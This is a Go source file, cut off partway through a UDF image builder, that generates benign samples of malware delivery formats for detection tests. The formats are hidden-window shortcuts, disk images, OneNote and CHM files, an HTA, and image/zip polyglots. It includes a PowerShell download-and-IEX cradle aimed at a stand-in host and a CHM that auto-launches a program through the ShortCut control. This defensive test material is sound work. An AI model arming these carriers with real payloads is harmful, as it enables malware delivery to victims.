// Package carriers builds harmless samples of the file types malware
// arrives in today (shortcuts, disk images, OneNote, CHM, HTA, scripts,
// packages), for the tests and the lab: each has the structure its
// readers look at, and no payload that does anything.
package carriers

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"maps"
	"math/rand"
	"sort"
	"strings"
	"unicode/utf16"
)

// LNK is a Windows shortcut whose target is the ID list path target
// (e.g. `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`),
// run with args, showing icon, minimised when hidden.
func LNK(target, args, icon string, hidden bool) []byte {
	var b bytes.Buffer
	flags := uint32(0x01 | 0x80) // HasLinkTargetIDList | IsUnicode
	if args != "" {
		flags |= 0x20
	}
	if icon != "" {
		flags |= 0x40
	}
	h := make([]byte, 76)
	binary.LittleEndian.PutUint32(h, 0x4C)
	copy(h[4:], []byte{0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46})
	binary.LittleEndian.PutUint32(h[20:], flags)
	binary.LittleEndian.PutUint32(h[24:], 0x20) // FILE_ATTRIBUTE_ARCHIVE
	show := uint32(1)
	if hidden {
		show = 7
	}
	binary.LittleEndian.PutUint32(h[60:], show)
	b.Write(h)
	// ID list: a volume item, then one file entry per path element.
	var ids bytes.Buffer
	parts := strings.Split(target, `\`)
	if len(parts) > 0 && len(parts[0]) == 2 && parts[0][1] == ':' {
		item := []byte{0, 0, 0x2F}
		item = append(item, parts[0]+`\`...)
		item = append(item, make([]byte, 20-len(item))...)
		binary.LittleEndian.PutUint16(item, uint16(len(item)))
		ids.Write(item)
		parts = parts[1:]
	}
	for i, p := range parts {
		typ := byte(0x31) // directory
		if i == len(parts)-1 {
			typ = 0x32 // file
		}
		item := make([]byte, 14)
		item[2] = typ
		item = append(item, p...)
		item = append(item, 0)
		if len(item)%2 == 1 {
			item = append(item, 0)
		}
		binary.LittleEndian.PutUint16(item, uint16(len(item)))
		ids.Write(item)
	}
	ids.Write([]byte{0, 0}) // terminal ID
	binary.Write(&b, binary.LittleEndian, uint16(ids.Len()))
	b.Write(ids.Bytes())
	str := func(s string) {
		u := utf16.Encode([]rune(s))
		binary.Write(&b, binary.LittleEndian, uint16(len(u)))
		binary.Write(&b, binary.LittleEndian, u)
	}
	if args != "" {
		str(args)
	}
	if icon != "" {
		str(icon)
	}
	b.Write([]byte{0, 0, 0, 0}) // terminal block
	return b.Bytes()
}

// ISO is an ISO 9660 image (level 1 names, one directory) holding files.
// It reads with isoinfo, bsdtar and 7z, and mounts.
func ISO(files map[string][]byte) []byte {
	const sector = 2048
	names := sortedNames(files)
	// Layout: 16 system sectors, PVD, terminator, L and M path tables,
	// the root directory, then the files.
	const pvd, term, lpt, mpt, root, first = 16, 17, 18, 19, 20, 21
	lba := make([]uint32, len(names))
	next := uint32(first)
	for i, n := range names {
		lba[i] = next
		next += uint32((len(files[n]) + sector - 1) / sector)
		if len(files[n]) == 0 {
			next++
		}
	}
	img := make([]byte, int(next)*sector)
	both32 := func(b []byte, v uint32) {
		binary.LittleEndian.PutUint32(b, v)
		binary.BigEndian.PutUint32(b[4:], v)
	}
	both16 := func(b []byte, v uint16) {
		binary.LittleEndian.PutUint16(b, v)
		binary.BigEndian.PutUint16(b[2:], v)
	}
	dirRec := func(extent, size uint32, flags byte, id []byte) []byte {
		r := make([]byte, 33+len(id))
		if len(r)%2 == 1 {
			r = append(r, 0)
		}
		r[0] = byte(len(r))
		both32(r[2:], extent)
		both32(r[10:], size)
		copy(r[18:], []byte{126, 1, 1, 0, 0, 0, 0}) // 2026-01-01
		r[25] = flags
		both16(r[28:], 1)
		r[32] = byte(len(id))
		copy(r[33:], id)
		return r
	}
	// Root directory: ".", "..", the files.
	var dir bytes.Buffer
	dir.Write(dirRec(root, sector, 2, []byte{0}))
	dir.Write(dirRec(root, sector, 2, []byte{1}))
	for i, n := range names {
		dir.Write(dirRec(lba[i], uint32(len(files[n])), 0, []byte(strings.ToUpper(n)+";1")))
	}
	copy(img[root*sector:], dir.Bytes())
	for i, n := range names {
		copy(img[int(lba[i])*sector:], files[n])
	}
	// Path tables: the root only.
	pt := func(order binary.ByteOrder) []byte {
		b := make([]byte, 10)
		b[0] = 1
		order.PutUint32(b[2:], root)
		order.PutUint16(b[6:], 1)
		return b
	}
	copy(img[lpt*sector:], pt(binary.LittleEndian))
	copy(img[mpt*sector:], pt(binary.BigEndian))
	p := img[pvd*sector:]
	p[0] = 1
	copy(p[1:], "CD001")
	p[6] = 1
	copy(p[8:], pad("", 32))
	copy(p[40:], pad("EDGESENSOR_TEST", 32))
	both32(p[80:], next)
	both16(p[120:], 1)
	both16(p[124:], 1)
	both16(p[128:], sector)
	both32(p[132:], 10)
	binary.LittleEndian.PutUint32(p[140:], lpt)
	binary.BigEndian.PutUint32(p[148:], mpt)
	copy(p[156:], dirRec(root, sector, 2, []byte{0}))
	for _, o := range []int{190, 318, 446, 574, 702, 739, 776} { // set, publisher, preparer, application, files
		copy(p[o:], pad("", 128))
	}
	copy(p[574:], pad("EDGESENSOR TESTS", 128))
	for _, o := range []int{813, 830, 847, 864} {
		copy(p[o:], "0000000000000000")
	}
	p[881] = 1
	t := img[term*sector:]
	t[0] = 255
	copy(t[1:], "CD001")
	t[6] = 1
	return img
}

func pad(s string, n int) []byte {
	b := bytes.Repeat([]byte{' '}, n)
	copy(b, s)
	return b
}

// VHDX is the start of a VHDX disk image: the file type identifier
// ("vhdxfile" and its creator) in its 64 KiB region, and the two header
// signatures after it, the rest empty.
func VHDX() []byte {
	b := make([]byte, 1<<20)
	copy(b, "vhdxfile")
	copy(b[8:], utf16le("edgesensor tests")) // the creator
	copy(b[64<<10:], "head")
	copy(b[128<<10:], "head")
	copy(b[192<<10:], "regi")
	copy(b[256<<10:], "regi")
	return b
}

// OneNote is a OneNote section holding one embedded file (a
// FileDataStoreObject), as the attachments of OneNote lures are.
func OneNote(embedded []byte) []byte {
	var b bytes.Buffer
	b.Write([]byte{0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3})
	b.Write(make([]byte, 1024-16))
	b.Write(FileDataStoreGUID)
	binary.Write(&b, binary.LittleEndian, uint64(len(embedded)))
	b.Write(make([]byte, 4+8))
	b.Write(embedded)
	b.Write(make([]byte, (8-len(embedded)%8)%8))
	b.Write([]byte{0x22, 0xA7, 0xFB, 0x71, 0x79, 0x0F, 0x0B, 0x4A, 0xBB, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6B, 0x24}) // footer GUID
	b.Write(make([]byte, 512))
	return b.Bytes()
}

// FileDataStoreGUID opens a FileDataStoreObject ([MS-ONESTORE] 2.6.13).
var FileDataStoreGUID = []byte{0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC}

// CHM is the header of a compiled HTML help file (ITSF version 3, its
// directory header ITSP after it), the rest empty.
func CHM() []byte {
	b := make([]byte, 8192)
	copy(b, "ITSF")
	binary.LittleEndian.PutUint32(b[4:], 3)
	binary.LittleEndian.PutUint32(b[8:], 0x60)
	binary.LittleEndian.PutUint32(b[12:], 1)
	copy(b[0x78:], "ITSP")
	return b
}

// HTA is an HTML application that shows a message.
func HTA() []byte {
	return []byte(`<html><head><title>Invoice</title>
<HTA:APPLICATION ID="inv" APPLICATIONNAME="Invoice" WINDOWSTATE="minimize"/>
<script language="VBScript">
Sub Window_OnLoad
  MsgBox "edgesensor test sample"
  window.close
End Sub
</script></head><body></body></html>
`)
}

// PowerShellCradle is a script in the shape of a download cradle that
// fetches from a documentation address and runs nothing of its own.
func PowerShellCradle() []byte {
	return []byte("$u = 'http://example.test/a.txt'\r\n" +
		"$s = (New-Object Net.WebClient).DownloadString($u)\r\n" +
		"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCBoaQ==')))\r\n")
}

// JPEG is a real JPEG picture (Go's image/jpeg encoder, quality 90) of
// w x h pixels of seeded noise: noise does not compress, so the size
// follows the pixels (about 3.3 bytes a pixel).
func JPEG(w, h int, seed int64) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, noise(w, h, seed), &jpeg.Options{Quality: 90}); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// PNG is a real PNG picture (image/png) of w x h pixels of seeded noise.
func PNG(w, h int, seed int64) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, noise(w, h, seed)); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func noise(w, h int, seed int64) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	rand.New(rand.NewSource(seed)).Read(img.Pix)
	for i := 3; i < len(img.Pix); i += 4 {
		img.Pix[i] = 0xFF // opaque
	}
	return img
}

// ZipOf is a zip archive (archive/zip, deflated) of files, in name order.
func ZipOf(files map[string][]byte) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, n := range sortedNames(files) {
		f, err := zw.Create(n)
		if err != nil {
			panic(err)
		}
		f.Write(files[n])
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// PictureZip is a polyglot: the picture, then a zip of files appended
// as `cat picture.jpg files.zip` makes it (the zip's offsets count from
// its own start; unzip, 7-Zip and archive/zip find it from its end).
func PictureZip(picture []byte, files map[string][]byte) []byte {
	return append(append([]byte(nil), picture...), ZipOf(files)...)
}

// FAT is a FAT12 volume (512-byte sectors; clusters of 512 bytes, larger
// when the files take more than 2 MiB; labelled EDGESENSOR) holding files in its root directory, each with a long
// (VFAT) name and a generated 8.3 one, as Windows writes them. It mounts
// on Linux and Windows and reads with mtools.
func FAT(files map[string][]byte) []byte {
	const bps = 512
	names := sortedNames(files)
	// Clusters of 512 bytes, larger when the files need more than FAT12
	// counts (4084).
	spc, clusters := 1, 0
	for {
		clusters = 0
		for _, n := range names {
			clusters += (len(files[n]) + spc*bps - 1) / (spc * bps)
		}
		clusters = max(clusters+16, 64)
		if clusters <= 4000 || spc == 128 {
			break
		}
		spc *= 2
	}
	cs := spc * bps
	const reserved, nfats, rootEnts = 1, 2, 512
	fatSecs := ((clusters+2)*3/2 + bps) / bps
	rootSecs := rootEnts * 32 / bps
	total := reserved + nfats*fatSecs + rootSecs + clusters*spc
	img := make([]byte, total*bps)
	b := img[:bps]
	copy(b, []byte{0xEB, 0x3C, 0x90})
	copy(b[3:], "MSDOS5.0")
	binary.LittleEndian.PutUint16(b[11:], bps)
	b[13] = byte(spc)
	binary.LittleEndian.PutUint16(b[14:], reserved)
	b[16] = nfats
	binary.LittleEndian.PutUint16(b[17:], rootEnts)
	binary.LittleEndian.PutUint16(b[19:], uint16(total))
	b[21] = 0xF8
	binary.LittleEndian.PutUint16(b[22:], uint16(fatSecs))
	binary.LittleEndian.PutUint16(b[24:], 63)
	binary.LittleEndian.PutUint16(b[26:], 255)
	b[36] = 0x80
	b[38] = 0x29
	binary.LittleEndian.PutUint32(b[39:], 0x12345678)
	copy(b[43:], "EDGESENSOR ")
	copy(b[54:], "FAT12   ")
	b[510], b[511] = 0x55, 0xAA
	fat := make([]byte, fatSecs*bps)
	set := func(c, v int) { // FAT12: two entries in three bytes
		o := c + c/2
		if c&1 == 0 {
			fat[o] = byte(v)
			fat[o+1] = fat[o+1]&0xF0 | byte(v>>8)&0x0F
		} else {
			fat[o] = fat[o]&0x0F | byte(v<<4)
			fat[o+1] = byte(v >> 4)
		}
	}
	set(0, 0xFF8)
	set(1, 0xFFF)
	dataStart := (reserved + nfats*fatSecs + rootSecs) * bps
	var dir bytes.Buffer
	label := make([]byte, 32)
	copy(label, "EDGESENSOR ")
	label[11] = 0x08
	dir.Write(label)
	next := 2
	for i, n := range names {
		body := files[n]
		first := 0
		if k := (len(body) + cs - 1) / cs; k > 0 {
			first = next
			for j := 0; j < k; j++ {
				if j == k-1 {
					set(next+j, 0xFFF)
				} else {
					set(next+j, next+j+1)
				}
			}
			copy(img[dataStart+(next-2)*cs:], body)
			next += k
		}
		dir.Write(fatDirEntries(n, i+1, first, len(body)))
	}
	copy(img[(reserved+nfats*fatSecs)*bps:], dir.Bytes())
	for i := 0; i < nfats; i++ {
		copy(img[(reserved+i*fatSecs)*bps:], fat)
	}
	return img
}

// fatDirEntries are the long name entries and the 8.3 entry of a file.
func fatDirEntries(name string, seq, first, size int) []byte {
	base, ext := name, ""
	if i := strings.LastIndexByte(name, '.'); i > 0 {
		base, ext = name[:i], name[i+1:]
	}
	up := func(s string, n int) string {
		s = strings.ToUpper(strings.Map(func(r rune) rune {
			if r > 0x7E || strings.ContainsRune(` .+,;=[]"*/:<>?\|`, r) {
				return -1
			}
			return r
		}, s))
		return s[:min(len(s), n)]
	}
	tail := "~" + string(rune('0'+seq%10))
	short := []byte(fmt.Sprintf("%-8s%-3s", up(base, 8-len(tail))+tail, up(ext, 3)))
	var sum byte
	for _, c := range short {
		sum = (sum>>1 | sum<<7) + c
	}
	u := utf16.Encode([]rune(name))
	u = append(u, 0)
	for len(u)%13 != 0 {
		u = append(u, 0xFFFF)
	}
	var out bytes.Buffer
	parts := len(u) / 13
	for p := parts; p >= 1; p-- {
		e := make([]byte, 32)
		e[0] = byte(p)
		if p == parts {
			e[0] |= 0x40
		}
		e[11], e[13] = 0x0F, sum
		for j, o := range []int{1, 3, 5, 7, 9, 14, 16, 18, 20, 22, 24, 28, 30} {
			binary.LittleEndian.PutUint16(e[o:], u[(p-1)*13+j])
		}
		out.Write(e)
	}
	e := make([]byte, 32)
	copy(e, short)
	e[11] = 0x20
	binary.LittleEndian.PutUint16(e[26:], uint16(first))
	binary.LittleEndian.PutUint32(e[28:], uint32(size))
	out.Write(e)
	return out.Bytes()
}

func sortedNames(files map[string][]byte) []string {
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// MBRDisk is a disk of whole MiBs with an MBR holding one partition of
// type typ (0x01 FAT12, 0x06 FAT16, 0x07 NTFS, 0x0C FAT32) at sector
// 128, the volume in it.
func MBRDisk(volume []byte, typ byte) []byte {
	const start = 128
	size := (start*512 + len(volume) + 1<<20 - 1) &^ (1<<20 - 1)
	d := make([]byte, size)
	e := d[446:]
	e[0] = 0
	e[4] = typ
	binary.LittleEndian.PutUint32(e[8:], start)
	binary.LittleEndian.PutUint32(e[12:], uint32((len(volume)+511)/512))
	d[510], d[511] = 0x55, 0xAA
	copy(d[start*512:], volume)
	return d
}

// VHD is a VHD file of the disk: fixed (the sectors, then the footer)
// or dynamic (footer copy, dynamic header, BAT, the 2 MiB blocks that
// hold data, footer). qemu-img reads both.
func VHD(disk []byte, dynamic bool) []byte {
	size := (len(disk) + 511) &^ 511
	footer := make([]byte, 512)
	copy(footer, "conectix")
	binary.BigEndian.PutUint32(footer[8:], 2)
	binary.BigEndian.PutUint32(footer[12:], 0x00010000)
	binary.BigEndian.PutUint64(footer[16:], ^uint64(0))
	copy(footer[28:], "win ") // Hyper-V: the size is the footer's, not its CHS geometry
	binary.BigEndian.PutUint32(footer[32:], 0x00010000)
	copy(footer[36:], "Wi2k")
	binary.BigEndian.PutUint64(footer[40:], uint64(size))
	binary.BigEndian.PutUint64(footer[48:], uint64(size))
	// CHS as the specification's algorithm gives for small disks.
	secs := size / 512
	spt, heads := 17, (secs/17+1023)/1024
	heads = max(heads, 4)
	cyl := secs / spt / heads
	binary.BigEndian.PutUint16(footer[56:], uint16(cyl))
	footer[58], footer[59] = byte(heads), byte(spt)
	binary.BigEndian.PutUint32(footer[60:], 2)
	copy(footer[68:], "edgesensor-test!")
	vhdChecksum := func(b []byte, at int) {
		binary.BigEndian.PutUint32(b[at:], 0)
		var s uint32
		for _, c := range b {
			s += uint32(c)
		}
		binary.BigEndian.PutUint32(b[at:], ^s)
	}
	if !dynamic {
		vhdChecksum(footer, 64)
		return append(append(make([]byte, 0, size+512), padTo(disk, size)...), footer...)
	}
	const block = 2 << 20
	binary.BigEndian.PutUint64(footer[16:], 512)
	binary.BigEndian.PutUint32(footer[60:], 3)
	vhdChecksum(footer, 64)
	blocks := (size + block - 1) / block
	batBytes := (blocks*4 + 511) &^ 511
	hdr := make([]byte, 1024)
	copy(hdr, "cxsparse")
	binary.BigEndian.PutUint64(hdr[8:], ^uint64(0))
	binary.BigEndian.PutUint64(hdr[16:], 1536)
	binary.BigEndian.PutUint32(hdr[24:], 0x00010000)
	binary.BigEndian.PutUint32(hdr[28:], uint32(blocks))
	binary.BigEndian.PutUint32(hdr[32:], block)
	vhdChecksum(hdr, 36)
	out := append(append(append([]byte{}, footer...), hdr...), bytes.Repeat([]byte{0xFF}, batBytes)...)
	disk = padTo(disk, blocks*block)
	for i := 0; i < blocks; i++ {
		data := disk[i*block : (i+1)*block]
		if bytes.Count(data, []byte{0}) == len(data) {
			continue // never written: not allocated
		}
		binary.BigEndian.PutUint32(out[1536+4*i:], uint32(len(out)/512))
		out = append(out, bytes.Repeat([]byte{0xFF}, 512)...) // sector bitmap: all present
		out = append(out, data...)
	}
	return append(out, footer...)
}

func padTo(b []byte, n int) []byte {
	if len(b) >= n {
		return b[:n]
	}
	return append(append(make([]byte, 0, n), b...), make([]byte, n-len(b))...)
}

// VHDXDisk is a VHDX file of the disk (1 MiB blocks, 512-byte sectors,
// no log), its headers and region tables CRC-32C checked as Windows
// does; blocks of zeros are not allocated. qemu-img reads it.
func VHDXDisk(disk []byte) []byte {
	const mb = 1 << 20
	const block = mb
	size := (len(disk) + block - 1) &^ (block - 1)
	disk = padTo(disk, size)
	blocks := size / block
	out := make([]byte, 4*mb) // identifier, headers, regions; log; BAT; metadata
	copy(out, "vhdxfile")
	copy(out[8:], utf16le("edgesensor tests")) // the creator
	crc := func(b []byte) {
		binary.LittleEndian.PutUint32(b[4:], 0)
		binary.LittleEndian.PutUint32(b[4:], crc32.Checksum(b, crc32.MakeTable(crc32.Castagnoli)))
	}
	for i, off := range []int{64 << 10, 128 << 10} {
		h := out[off : off+4096]
		copy(h, "head")
		binary.LittleEndian.PutUint64(h[8:], uint64(i+1))
		copy(h[16:], "edgesensor-file!")
		copy(h[32:], "edgesensor-data!")
		binary.LittleEndian.PutUint16(h[66:], 1)  // version
		binary.LittleEndian.PutUint32(h[68:], mb) // log length
		binary.LittleEndian.PutUint64(h[72:], mb) // log offset
		crc(h)
	}
	const batOff, metaOff = 2 * mb, 3 * mb
	for _, off := range []int{192 << 10, 256 << 10} {
		t := out[off : off+64<<10]
		copy(t, "regi")
		binary.LittleEndian.PutUint32(t[8:], 2)
		for j, r := range []struct {
			g   string
			off int
		}{{"2DC27766-F623-4200-9D64-115E9BFD4A08", batOff}, {"8B7CA206-4790-4B9A-B8FE-575F050F886E", metaOff}} {
			e := t[16+32*j:]
			copy(e, winGUID(r.g))
			binary.LittleEndian.PutUint64(e[16:], uint64(r.off))
			binary.LittleEndian.PutUint32(e[24:], mb)
			binary.LittleEndian.PutUint32(e[28:], 1) // required
		}
		crc(t)
	}
	m := out[metaOff:]
	copy(m, "metadata")
	items := []struct {
		g     string
		val   []byte
		flags uint32
	}{
		{"CAA16737-FA36-4D43-B3B6-33F0AA44E76B", le32(block, 0), 4},
		{"2FA54224-CD1B-4876-B211-5DBED83BF4B8", le64(uint64(size)), 6},
		{"8141BF1D-A96F-4709-BA47-F233A8FAAB5F", le32(512), 6},
		{"CDA348C7-445D-4471-9CC9-E9885251C556", le32(512), 6},
		{"BECA12AB-B2E6-4523-93EF-C309E000C746", []byte("edgesensor-disk!"), 6},
	}
	binary.LittleEndian.PutUint16(m[10:], uint16(len(items)))
	at := 64 << 10
	for j, it := range items {
		e := m[32+32*j:]
		copy(e, winGUID(it.g))
		binary.LittleEndian.PutUint32(e[16:], uint32(at))
		binary.LittleEndian.PutUint32(e[20:], uint32(len(it.val)))
		binary.LittleEndian.PutUint32(e[24:], it.flags)
		copy(m[at:], it.val)
		at += 4096
	}
	// One bitmap entry follows every 2^23*512/block payload entries:
	// more than a small disk has, so the BAT is payload entries only.
	for i := 0; i < blocks; i++ {
		data := disk[i*block : (i+1)*block]
		if bytes.Count(data, []byte{0}) == len(data) {
			continue // BAT entry 0: not present, reads as zeros
		}
		binary.LittleEndian.PutUint64(out[batOff+8*i:], uint64(len(out))|6) // fully present
		out = append(out, data...)
	}
	return out
}

func le32(v ...uint32) []byte {
	b := make([]byte, 4*len(v))
	for i, x := range v {
		binary.LittleEndian.PutUint32(b[4*i:], x)
	}
	return b
}

// utf16le is s in UTF-16, little-endian, without a terminator.
func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	out := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(out[2*i:], c)
	}
	return out
}

func le64(v uint64) []byte { return binary.LittleEndian.AppendUint64(nil, v) }

// winGUID is a GUID's bytes as Windows stores it.
func winGUID(s string) []byte {
	h, _ := hex.DecodeString(strings.ReplaceAll(s, "-", ""))
	b := make([]byte, 16)
	binary.LittleEndian.PutUint32(b, binary.BigEndian.Uint32(h))
	binary.LittleEndian.PutUint16(b[4:], binary.BigEndian.Uint16(h[4:]))
	binary.LittleEndian.PutUint16(b[6:], binary.BigEndian.Uint16(h[6:]))
	copy(b[8:], h[8:])
	return b
}

// CHMWith is a compiled HTML help file (ITSF version 3) whose files are
// all stored in section 0 (uncompressed), listed in as many 4 KiB PMGL
// chunks as they need. Names start with "/" ("/index.html"). 7-Zip
// lists and extracts it.
func CHMWith(files map[string][]byte) []byte {
	const chunk = 4096
	names := sortedNames(files)
	sort.SliceStable(names, func(i, j int) bool { return strings.ToLower(names[i]) < strings.ToLower(names[j]) })
	encint := func(v uint64) []byte {
		out := []byte{byte(v & 0x7F)}
		for v >>= 7; v > 0; v >>= 7 {
			out = append([]byte{byte(v&0x7F) | 0x80}, out...)
		}
		return out
	}
	var content bytes.Buffer
	var chunks [][]byte
	cur := []byte(nil)
	count := 0
	flush := func() {
		c := make([]byte, chunk)
		copy(c, "PMGL")
		binary.LittleEndian.PutUint32(c[4:], uint32(chunk-len(cur)-0x14))
		binary.LittleEndian.PutUint32(c[12:], uint32(len(chunks)-1)) // previous (-1 for the first)
		binary.LittleEndian.PutUint32(c[16:], 0xFFFFFFFF)            // next: set below
		copy(c[0x14:], cur)
		binary.LittleEndian.PutUint16(c[chunk-2:], uint16(count)) // quickref: the entry count
		chunks = append(chunks, c)
		cur, count = nil, 0
	}
	add := func(name string, off, size int) {
		e := append(encint(uint64(len(name))), name...)
		e = append(e, encint(0)...)
		e = append(e, encint(uint64(off))...)
		e = append(e, encint(uint64(size))...)
		if 0x14+len(cur)+len(e)+2 > chunk {
			flush()
		}
		cur = append(cur, e...)
		count++
	}
	// The section names (::DataSpace/NameList): sizes in 16-bit words,
	// names in UTF-16, each NUL-terminated: one section, "Uncompressed".
	var nl []uint16
	for _, sec := range []string{"Uncompressed"} {
		u := utf16.Encode([]rune(sec))
		nl = append(append(append(nl, uint16(len(u))), u...), 0)
	}
	nl = append([]uint16{uint16(len(nl) + 2), 1}, nl...)
	nameList := make([]byte, 2*len(nl))
	for i, w := range nl {
		binary.LittleEndian.PutUint16(nameList[2*i:], w)
	}
	files = maps.Clone(files)
	files["::DataSpace/NameList"] = nameList
	names = append(names, "::DataSpace/NameList") // sorts after "/..."
	add("/", 0, 0)
	for _, n := range names {
		add(n, content.Len(), len(files[n]))
		content.Write(files[n])
	}
	flush()
	for i := range chunks[:len(chunks)-1] {
		binary.LittleEndian.PutUint32(chunks[i][16:], uint32(i+1))
	}
	const dirOff = 0x78
	dirLen := 0x54 + len(chunks)*chunk
	out := make([]byte, dirOff+dirLen)
	h := out
	copy(h, "ITSF")
	binary.LittleEndian.PutUint32(h[4:], 3)
	binary.LittleEndian.PutUint32(h[8:], 0x60)
	binary.LittleEndian.PutUint32(h[12:], 1)
	binary.LittleEndian.PutUint32(h[0x14:], 0x409)
	copy(h[0x18:], winGUID("7C01FD10-7BAA-11D0-9E0C-00A0C922E6EC"))
	copy(h[0x28:], winGUID("7C01FD11-7BAA-11D0-9E0C-00A0C922E6EC"))
	binary.LittleEndian.PutUint64(h[0x38:], 0x60)
	binary.LittleEndian.PutUint64(h[0x40:], 0x18)
	binary.LittleEndian.PutUint64(h[0x48:], dirOff)
	binary.LittleEndian.PutUint64(h[0x50:], uint64(dirLen))
	binary.LittleEndian.PutUint64(h[0x58:], uint64(dirOff+dirLen))
	hs0 := out[0x60:]
	binary.LittleEndian.PutUint32(hs0, 0x01FE)
	binary.LittleEndian.PutUint64(hs0[8:], uint64(len(out)+content.Len()))
	d := out[dirOff:]
	copy(d, "ITSP")
	binary.LittleEndian.PutUint32(d[4:], 1)
	binary.LittleEndian.PutUint32(d[8:], 0x54)
	binary.LittleEndian.PutUint32(d[0xC:], 0x0A)
	binary.LittleEndian.PutUint32(d[0x10:], chunk)
	binary.LittleEndian.PutUint32(d[0x14:], 2)
	binary.LittleEndian.PutUint32(d[0x18:], 1)
	binary.LittleEndian.PutUint32(d[0x1C:], 0xFFFFFFFF)
	binary.LittleEndian.PutUint32(d[0x20:], 0)
	binary.LittleEndian.PutUint32(d[0x24:], uint32(len(chunks)-1))
	binary.LittleEndian.PutUint32(d[0x28:], 0xFFFFFFFF)
	binary.LittleEndian.PutUint32(d[0x2C:], uint32(len(chunks)))
	binary.LittleEndian.PutUint32(d[0x30:], 0x409)
	copy(d[0x34:], winGUID("5D02926A-212E-11D0-9DF9-00A0C922E6EC"))
	binary.LittleEndian.PutUint32(d[0x44:], 0x54)
	for _, o := range []int{0x48, 0x4C, 0x50} {
		binary.LittleEndian.PutUint32(d[o:], 0xFFFFFFFF)
	}
	for i, c := range chunks {
		copy(d[0x54+i*chunk:], c)
	}
	return append(out, content.Bytes()...)
}

// CHMShortcut is a CHM whose page uses the HTML Help ActiveX control's
// ShortCut command to start a program, the way CHM lures run their
// payload: here notepad.exe with a harmless argument.
func CHMShortcut() []byte {
	page := `<html><head><title>Help</title></head><body>
<OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
<PARAM name="Command" value="ShortCut">
<PARAM name="Button" value="Bitmap::shortcut">
<PARAM name="Item1" value=",notepad.exe,edgesensor-test.txt">
<PARAM name="Item2" value="273,1,1">
</OBJECT>
<SCRIPT>x.Click();</SCRIPT>
</body></html>
`
	return CHMWith(map[string][]byte{"/index.html": []byte(page), "/style.css": []byte("body{}")})
}

// UDF is a UDF 1.02 image (2048-byte blocks, no ISO 9660 side, labelled
// EDGESENSOR) holding files in its root directory: the volume
// recognition sequence, the main volume descriptor sequence, an
// integrity descriptor, the anchor at sector 256, then the partition
// (file set descriptor, root file entry and directory, a file entry and
// the data of each file). udfinfo reads it.
func UDF(files map[string][]byte) []byte {
	const bs = 2048
	names := sortedNames(files)
	const part = 257 // the partition's first sector
	// Partition blocks: 0 FSD, 1 root FE, 2.. root directory, then one
	// FE per file, then the files' data.
	var dirData bytes.Buffer
	fid := func(chars byte, name string, icb uint32, at int) {
		id := []byte(nil)
		if name != "" {
			id = append([]byte{8}, name...)
		}
		n := (38 + len(id) + 3) &^ 3
		d := make([]byte, n)
		binary.LittleEndian.PutUint16(d[16:], 1)
		d[18], d[19] = chars, byte(len(id))
		binary.LittleEndian.PutUint32(d[20:], bs)
		binary.LittleEndian.PutUint32(d[24:], icb)
		copy(d[38:], id)
		udfTag(d, 257, uint32(2+at/bs))
		dirData.Write(d)
	}
	dirBlocks := 1 + (len(names)*(40+256))/bs
	feBlock := func(i int) uint32 { return uint32(2 + dirBlocks + i) }
	dataBlock := make([]uint32, len(names))
	next := uint32(2 + dirBlocks + len(names))
	for i, n := range names {
		dataBlock[i] = next
		next += uint32((len(files[n]) + bs - 1) / bs)
	}
	partLen := next
	fid(0x0A, "", 1, 0) // the parent: the root itself
	for i, n := range names {
		fid(0, n, feBlock(i), dirData.Len())
	}
	img := make([]byte, (part+int(partLen)+1)*bs)
	vol := func(sec int, id string) {
		copy(img[sec*bs+1:], id)
		img[sec*bs+6] = 1
	}
	vol(16, "BEA01")
	vol(17, "NSR02")
	vol(18, "TEA01")
	charspec := func(b []byte) { copy(b[1:], "OSTA Compressed Unicode") }
	dstr := func(b []byte, s string) {
		b[0] = 8
		copy(b[1:], s)
		b[len(b)-1] = byte(1 + len(s))
	}
	regid := func(b []byte, id string, suffix ...byte) {
		copy(b[1:], id)
		copy(b[24:], suffix)
	}
	d := img[32*bs : 33*bs] // primary volume descriptor
	dstr(d[24:56], "EDGESENSOR")
	binary.LittleEndian.PutUint16(d[56:], 1)
	binary.LittleEndian.PutUint16(d[58:], 1)
	binary.LittleEndian.PutUint16(d[60:], 2)
	binary.LittleEndian.PutUint16(d[62:], 2)
	binary.LittleEndian.PutUint32(d[64:], 1)
	binary.LittleEndian.PutUint32(d[68:], 1)
	dstr(d[72:200], "edgesensor-tests")
	charspec(d[200:])
	charspec(d[264:])
	regid(d[388:], "*edgesensor")
	udfTag(d[:512], 1, 32)
	d = img[33*bs : 34*bs] // partition descriptor
	binary.LittleEndian.PutUint32(d[16:], 1)
	binary.LittleEndian.PutUint16(d[20:], 1)
	regid(d[24:], "+NSR02")
	binary.LittleEndian.PutUint32(d[184:], 1) // read-only
	binary.LittleEndian.PutUint32(d[188:], part)
	binary.LittleEndian.PutUint32(d[192:], partLen)
	regid(d[196:], "*edgesensor")
	udfTag(d[:512], 5, 33)
	d = img[34*bs : 35*bs] // logical volume descriptor
	binary.LittleEndian.PutUint32(d[16:], 2)
